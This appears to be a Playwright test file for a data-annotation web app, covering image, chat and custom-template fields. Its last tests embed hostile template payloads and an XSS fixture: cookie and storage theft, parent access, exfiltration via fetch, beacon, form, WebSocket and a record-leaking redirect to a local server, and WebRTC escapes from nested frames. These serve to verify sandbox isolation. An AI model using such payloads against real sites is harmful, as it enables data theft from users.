import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { buildDataset } from '../dataset.ts';
import { expect, expectAccessible, picture, test } from '../fixtures.ts';
import { pngUri } from '../png.ts';

const COMMENT = { name: 'comment', title: 'Say why', settings: { type: 'text', use_markdown: false } };
/** A red dot of 5 × 5 pixels. */
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==';
/** Argilla accepts drawings only with this type, which browsers do not show. */
const DRAWING =
  'data:image/svg,%3Csvg xmlns="http://www.w3.org/2000/svg" width="40" height="40"%3E%3Ccircle r="20" /%3E%3C/svg%3E';
const CHAT = [
  { role: 'system', content: 'You are a patient teacher.' },
  { role: 'user', content: 'What is **photosynthesis**?' },
  { role: 'assistant', content: 'Plants make sugar from *light*:\n\n1. water\n2. carbon dioxide' },
  { role: 'user', content: '<img src=x onerror="window.hacked = true"> thanks' },
  { role: 'tool', content: '{"ok": true}' },
];
const TEMPLATE = `<style>h1 { color: teal; font-size: 20px }</style>
<h1>{{record.fields.card.title}}</h1>
<ul>{{#each record.fields.card.tags}}<li>{{this}}</li>{{/each}}</ul>
{{json record.fields.card}}`;
const CARD = { title: 'Green <tea>', tags: ['hot', 'leafy'] };

test.describe('a record with fields of all types', () => {
  test('shows image, conversation and template, on a phone in the dark, too', async ({ page, owner, signInAs }) => {
    const dataset = await buildDataset(owner, {
      fields: [
        { name: 'photo', title: 'Photo', settings: { type: 'image' } },
        { name: 'talk', title: 'Talk', settings: { type: 'chat', use_markdown: true } },
        { name: 'card', title: 'Card', settings: { type: 'custom', template: TEMPLATE } },
      ],
      questions: [COMMENT],
      records: [{ fields: { photo: PNG, talk: CHAT, card: CARD } }],
    });
    await page.setViewportSize({ width: 1440, height: 1400 });
    await signInAs(page, 'annotator');
    await page.goto(dataset.path);

    const image = page.getByRole('img', { name: /^Photo, record / });
    await expect(image).toBeVisible();
    const talk = page.getByRole('list', { name: 'Talk: conversation, 5 messages' });
    await expect(talk.getByRole('listitem').filter({ hasText: 'Assistant' })).toContainText('Plants make sugar');
    await expect(talk.locator('strong')).toHaveText('photosynthesis');
    await expect(talk.getByText('tool', { exact: true })).toBeVisible();
    expect(await page.evaluate(() => (window as { hacked?: boolean }).hacked)).toBeUndefined();
    const frame = page.frameLocator('iframe[title="Card: content"]');
    await expect(frame.getByRole('heading', { name: 'Green <tea>' })).toBeVisible();
    await expect(frame.getByRole('listitem')).toHaveText(['hot', 'leafy']);
    await expect(frame.locator('html')).toHaveAttribute('data-theme', 'light');
    // The frame is as high as its content.
    const iframe = page.locator('iframe[title="Card: content"]');
    await expect
      .poll(async () => (await iframe.boundingBox())!.height)
      .toBe(
        await frame
          .locator('html')
          .evaluate(() => Math.max(document.documentElement.offsetHeight, document.body.scrollHeight)),
      );
    await expectAccessible(page);
    await picture(page, 'field-types');

    await page.emulateMedia({ colorScheme: 'dark' });
    await page.setViewportSize({ width: 390, height: 844 });
    await expect(frame.locator('html')).toHaveAttribute('data-theme', 'dark');
    await expect(image).toBeVisible();
    await expectAccessible(page);
    await picture(page, 'field-types-dark-phone');
  });

  test('enlarges an image by buttons, keys and wheel, and says when it cannot be loaded', async ({
    page,
    owner,
    signInAs,
  }) => {
    const dataset = await buildDataset(owner, {
      fields: [
        { name: 'good', title: 'Good', settings: { type: 'image' } },
        { name: 'bad', title: 'Bad', settings: { type: 'image' } },
        { name: 'drawn', title: 'Drawn', settings: { type: 'image' } },
      ],
      questions: [COMMENT],
      records: Array.from({ length: 2 }, () => ({
        fields: { good: pngUri(400, 300, [80, 160, 120]), bad: 'http://127.0.0.1:1/cat.png', drawn: DRAWING },
      })),
    });
    await signInAs(page, 'annotator');
    await page.goto(dataset.path);
    const card = page.getByRole('region', { name: 'Good' });
    const view = card.getByRole('group', { name: 'Good: image' });
    await expect(view.getByRole('img')).toBeVisible();
    await card.getByRole('button', { name: 'Zoom in' }).click();
    await expect(card.getByText('125 %')).toBeVisible();
    await view.focus();
    await page.keyboard.press('+');
    await expect(card.getByText('156 %')).toBeVisible();
    // The arrows move the enlarged image, and do not go to another record.
    const moved = () => view.evaluate(({ scrollLeft }) => scrollLeft);
    for (let presses = 0; presses < 6; presses += 1) await page.keyboard.press('+');
    await expect(card.getByText('596 %')).toBeVisible();
    const before = await moved();
    await page.keyboard.press('ArrowRight');
    await expect.poll(moved).toBeGreaterThan(before);
    await expect(page.getByRole('article', { name: 'Record 1 of 2' })).toBeVisible();
    await page.keyboard.press('0');
    await expect(card.getByText('100 %')).toBeVisible();
    await view.hover();
    await page.keyboard.down('Control');
    await page.mouse.wheel(0, -100);
    await page.keyboard.up('Control');
    await expect(card.getByText('125 %')).toBeVisible();
    const broken = page.getByRole('group', { name: 'The image cannot be loaded' });
    await expect(broken.getByRole('link', { name: 'http://127.0.0.1:1/cat.png' })).toBeVisible();
    await expect(page.getByRole('img', { name: /^Drawn, record / })).toBeVisible();
    await expectAccessible(page);
  });

  test('uses the template of the settings', async ({ page, owner, signInAs }) => {
    const dataset = await buildDataset(owner, {
      fields: [
        { name: 'card', title: 'Card', settings: { type: 'custom', template: 'Old' } },
        { name: 'photo', title: 'Photo', settings: { type: 'image' } },
        { name: 'talk', title: 'Talk', settings: { type: 'chat', use_markdown: true } },
      ],
      questions: [COMMENT],
      records: [{ fields: { card: CARD, photo: PNG, talk: CHAT } }],
    });
    await signInAs(page, 'argilla');
    await page.goto(`/dataset/${dataset.id}/settings?tab=fields`);
    const card = page.getByRole('form', { name: 'Card' });
    await card.getByRole('textbox', { name: 'Template' }).fill('New {{record.fields.card.title}}');
    await card.getByRole('button', { name: 'Update' }).click();
    await expect(card.getByText('Saved')).toBeVisible();
    const talk = page.getByRole('form', { name: 'Talk' });
    await talk.getByRole('switch', { name: 'Use Markdown' }).click();
    await talk.getByRole('button', { name: 'Update' }).click();
    await expect(talk.getByText('Saved')).toBeVisible();
    await expect(page.getByRole('form', { name: 'Photo' }).getByRole('switch')).toHaveCount(0);
    await expectAccessible(page);
    await picture(page, 'field-types-settings');
    await page.goto(dataset.path);
    const frame = page.frameLocator('iframe[title="Card: content"]');
    await expect(frame.locator('body')).toHaveText('New Green <tea>');
    await expect(page.getByText('What is **photosynthesis**?')).toBeVisible();
  });

  test('shows the template of each record, with its size and what is wrong with it', async ({
    page,
    owner,
    signInAs,
  }) => {
    const template = `<body><script>
      const { title } = record.fields.card;
      document.body.textContent = title.toUpperCase() + (innerWidth > 100 ? '' : ' without a size');
    </script>`;
    const dataset = await buildDataset(owner, {
      fields: [{ name: 'card', title: 'Card', settings: { type: 'custom', template, advanced_mode: true } }],
      questions: [COMMENT],
      records: [{ title: 'tea' }, { title: 'milk' }, {}].map((card) => ({ fields: { card } })),
    });
    await signInAs(page, 'annotator');
    await page.goto(dataset.path);
    const shown: string[] = [];
    for (const position of [1, 2, 3, 2, 1]) {
      if (shown.length > 0) await page.getByRole('button', { name: shown.length < 3 ? 'Next' : 'Previous' }).click();
      const record = page.getByRole('article', { name: `Record ${position} of 3` });
      const content = record.frameLocator('iframe:visible').locator('body');
      const isFaulty = async () => (await record.getByRole('alert').count()) > 0;
      await expect.poll(async () => (await isFaulty()) || content.innerText()).toBeTruthy();
      shown.push((await isFaulty()) ? 'problem' : await content.innerText());
    }
    expect(shown.slice(0, 3).toSorted()).toEqual(['MILK', 'TEA', 'problem']);
    expect(shown.slice(3)).toEqual(shown.slice(0, 2).reverse());
  });

  test('takes keys after a click into a template, but leaves it those that are typed there', async ({
    page,
    owner,
    signInAs,
  }) => {
    const template =
      '<p>{{record.fields.card.title}}</p><details><summary>More</summary><p>Leaves</p></details><input>';
    const dataset = await buildDataset(owner, {
      fields: [{ name: 'card', title: 'Card', settings: { type: 'custom', template } }],
      questions: [COMMENT],
      records: [{ fields: { card: CARD } }, { fields: { card: CARD } }],
    });
    await signInAs(page, 'annotator');
    await page.goto(dataset.path);
    const record = (position: number) => page.getByRole('article', { name: `Record ${position} of 2` });
    const frame = (position: number) => record(position).frameLocator('iframe:visible');
    await frame(1).getByText('More').click();
    await expect(frame(1).getByText('Leaves')).toBeVisible();
    await page.keyboard.press('ArrowRight');
    await expect(record(2)).toBeVisible();
    await frame(2).getByRole('textbox').click();
    await page.keyboard.type('12');
    await page.keyboard.press('ArrowLeft');
    await expect(frame(2).getByRole('textbox')).toHaveValue('12');
    await page.keyboard.press('Escape');
    await page.keyboard.press('ArrowLeft');
    await expect(record(1)).toBeVisible();
  });

  test('shows a conversation of 500 long messages without delay', async ({ page, owner, signInAs }) => {
    const talk = Array.from({ length: 500 }, (_, index) => ({
      role: index % 2 ? 'assistant' : 'user',
      content: `Message ${index + 1}. ${'Long and longer. '.repeat(400)}`,
    }));
    const dataset = await buildDataset(owner, {
      fields: [{ name: 'talk', title: 'Talk', settings: { type: 'chat', use_markdown: true } }],
      questions: [COMMENT],
      records: [{ fields: { talk } }],
    });
    await signInAs(page, 'annotator');
    await page.goto(dataset.path);
    // Looking for list items by their role would read every long text.
    const messages = page.getByRole('list', { name: /^Talk/ }).locator('> li');
    await expect(messages).toHaveCount(50);
    const more = page.getByRole('button', { name: 'Show all 500 messages' });
    await more.scrollIntoViewIfNeeded();
    // What comes into view has about the height that was kept for it.
    const bottom = () => more.evaluate((button) => Math.round(button.getBoundingClientRect().bottom));
    const height = await page.evaluate(() => window.innerHeight);
    await expect.poll(bottom).toBeLessThan(height * 1.5);
    await more.click();
    await expect(messages).toHaveCount(500);
  });
});

/** The template's attempts to escape, which the frame reports as text. */
const HOSTILE = (beacon: string) => `<div id="told">waiting</div><script>
  const attempts = {
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    database: () => indexedDB.open('x') && 'opened',
    parent: () => parent.document.title,
    top: () => top.location.href,
  };
  const told = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { told[name] = 'got ' + attempt(); } catch (error) { told[name] = error.name; }
  }
  try { top.location = '${beacon}/top'; told.navigate = 'done'; } catch (error) { told.navigate = error.name; }
  try { told.open = String(window.open('${beacon}/open')); } catch (error) { told.open = error.name; }
  new Image().src = '${beacon}/image';
  document.write('<link rel="stylesheet" href="${beacon}/style"><iframe src="${beacon}/frame"></iframe>');
  document.write('<form action="${beacon}/form" method="post" id="form"></form>');
  document.getElementById('form').submit();
  navigator.sendBeacon('${beacon}/beacon', 'x');
  try { new WebSocket('${beacon}/socket'.replace('http', 'ws')); } catch {}
  const script = document.createElement('script'); script.src = '${beacon}/script'; document.head.append(script);
  const ways = [fetch('${beacon}/fetch'), fetch('/api/v1/me'), import('${beacon}/module')];
  Promise.allSettled(ways).then((all) => {
    told.fetch = all.map(({ status }) => status).join(' ');
    document.getElementById('told').textContent = JSON.stringify(told);
    setInterval(() => parent.postMessage({ height: 1e9 }, '*'), 5);
    for (const height of [NaN, -1, 'x', null, {}]) parent.postMessage({ height }, '*');
    parent.postMessage(null, '*');
    setTimeout(() => { location = '${beacon}/self?' + encodeURIComponent(JSON.stringify(record)); }, 1500);
  });
</script>`;

test('a hostile template is isolated from the page and the network', async ({ page, owner, signInAs }) => {
  const reached: string[] = [];
  const elsewhere = createServer((request, response) => {
    reached.push(request.url!);
    response.setHeader('access-control-allow-origin', '*').end('');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  const beacon = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  try {
    const template = HOSTILE(beacon);
    const dataset = await buildDataset(owner, {
      fields: [
        { name: 'card', title: 'Card', settings: { type: 'custom', template, advanced_mode: true } },
        { name: 'simple', title: 'Simple', settings: { type: 'custom', template: '{{record.fields.simple.html}}' } },
        { name: 'faulty', title: 'Faulty', settings: { type: 'custom', template: '{{#if}}' } },
      ],
      questions: [COMMENT],
      records: [
        {
          fields: {
            card: { secret: 1 },
            simple: { html: `<img src="${beacon}/value"><script>1</script>` },
            faulty: {},
          },
        },
      ],
    });
    await signInAs(page, 'annotator');
    const popups: Page[] = [];
    page.context().on('page', (popup) => popups.push(popup));
    await page.goto(dataset.path);
    const told = page.frameLocator('iframe[title="Card: content"]').locator('#told');
    // The template navigates away soon after its report.
    let text = '';
    const read = async () => (text = await told.innerText({ timeout: 500 }).catch(() => ''));
    await expect.poll(read, { intervals: [100] }).toContain('fetch');
    expect(JSON.parse(text)).toEqual({
      cookie: 'SecurityError',
      storage: 'SecurityError',
      database: 'SecurityError',
      parent: 'SecurityError',
      top: 'SecurityError',
      navigate: 'SecurityError',
      open: 'null',
      fetch: 'rejected rejected rejected',
    });
    // A value is a text, even if it looks like HTML.
    const simple = page.frameLocator('iframe[title="Simple: content"]').locator('body');
    await expect(simple).toContainText('<script>1</script>');
    await expect(page.getByText(/^The template has an error: it ends inside of a block/)).toBeVisible();
    await page.waitForTimeout(2000);
    expect(reached).toEqual([]);
    expect(popups).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(new URL(dataset.path, page.url()).pathname);
    const height = (await page.locator('iframe[title="Card: content"]').boundingBox())!.height;
    expect(height).toBeLessThanOrEqual(2000);
    await page.getByRole('textbox', { name: 'Say why' }).fill('still here');
  } finally {
    elsewhere.close();
  }
});

/** Documents inside of a template, which have all interfaces that are taken from the template: in its HTML and added by scripts. */
const NESTING = (udpPort: number) => `<div id="told">waiting</div><div id="outside"></div><script>
  const inner = (way) => '<script>const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] });' +
    'peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))' +
    '.then(() => parent.postMessage("' + way + '", "*"))</' + 'script>';
  const reached = [];
  addEventListener('message', ({ source, data }) => source !== parent && reached.push(data));
  const framed = (way) => Object.assign(document.createElement('iframe'), { srcdoc: inner(way) });
  const quoted = (way) => '<iframe srcdoc="' + inner(way).replaceAll('"', '&quot;') + '"></iframe>';
  document.body.append(framed('added'));
  document.write(quoted('written'));
  document.write('<p><template shadowrootmode="closed">' + quoted('declared') + '</template></p>');
  outside.innerHTML = quoted('inserted');
  for (const mode of ['open', 'closed']) {
    const host = document.createElement('div');
    document.body.append(host);
    host.attachShadow({ mode }).append(framed(mode));
  }
  setTimeout(() => (told.textContent = 'reached by: ' + reached.join(' ')), 3000);
</script><iframe srcdoc="<script>parent.postMessage('own', '*')</script>"></iframe>`;

test('a template has no documents inside, as they could reach the network over WebRTC', async ({
  page,
  owner,
  signInAs,
}) => {
  const udp = createSocket('udp4');
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  let packets = 0;
  udp.on('message', () => (packets += 1));
  try {
    const template = NESTING(udp.address().port);
    const dataset = await buildDataset(owner, {
      fields: [{ name: 'card', title: 'Card', settings: { type: 'custom', template, advanced_mode: true } }],
      questions: [COMMENT],
      records: [{ fields: { card: {} } }],
    });
    await signInAs(page, 'annotator');
    await page.goto(dataset.path);
    const told = page.frameLocator('iframe[title="Card: content"]').locator('#told');
    await expect(told).toHaveText(/^reached by:/);
    await expect(told).toHaveText('reached by:');
    expect(packets).toBe(0);
  } finally {
    udp.close();
  }
});
